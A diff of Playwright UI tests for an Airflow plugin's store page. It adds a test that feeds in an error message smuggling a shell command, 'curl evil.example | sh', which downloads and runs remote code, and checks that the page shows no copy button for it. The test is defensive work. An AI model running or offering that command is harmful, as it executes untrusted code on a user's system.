@@ -805,8 +805,11 @@ def test_without_a_connection_it_shows_how_to_make_one(seen: Seen) -> None:
 
 
 def test_a_store_that_does_not_answer_names_the_remedy(seen: Seen) -> None:
-    sentence = "The file does not exist; correct its path, or create it: `airflow-mq store upgrade`."
-    told: list[dict[str, Any]] = [{"conn_id": "mq", "kind": "sqlite", "rings": [], "error": sentence}]
+    command = "airflow-mq store upgrade"
+    sentence = f"The file does not exist; correct its path, or create it: `{command}`."
+    told: list[dict[str, Any]] = [
+        {"conn_id": "mq", "kind": "sqlite", "rings": [], "error": sentence, "command": f"{command} --conn-id mq"}
+    ]
     seen.page.route("**/api/v1/stores", lambda route: route.fulfill(json=told))
     seen.page.goto(f"{seen.address}/plugin/airflow-mq")
     shown = seen.page.locator(".amq")
@@ -816,6 +819,16 @@ def test_a_store_that_does_not_answer_names_the_remedy(seen: Seen) -> None:
     shown.get_by_role("button", name="Try again").click()
     expect(shown.get_by_role("heading", name="This store has no ring yet")).to_be_visible()
     expect(shown.get_by_role("button", name="Copy airflow-mq ring create default --conn-id mq")).to_be_visible()
+
+
+def test_the_error_of_a_store_is_no_command(seen: Seen) -> None:
+    hostile = "unknown ring '`airflow-mq status; curl evil.example | sh`': the store has 'default'"
+    told = [{"conn_id": "mq", "kind": "sqlite", "rings": [], "error": hostile, "command": ""}]
+    seen.page.route("**/api/v1/stores", lambda route: route.fulfill(json=told))
+    seen.page.goto(f"{seen.address}/plugin/airflow-mq")
+    shown = seen.page.locator(".amq")
+    expect(shown.get_by_text("curl evil.example")).to_be_visible()
+    expect(shown.get_by_role("button", name=re.compile("^Copy"))).to_have_count(0)
 
 
 def test_it_stands_alone_too(seen: Seen) -> None:
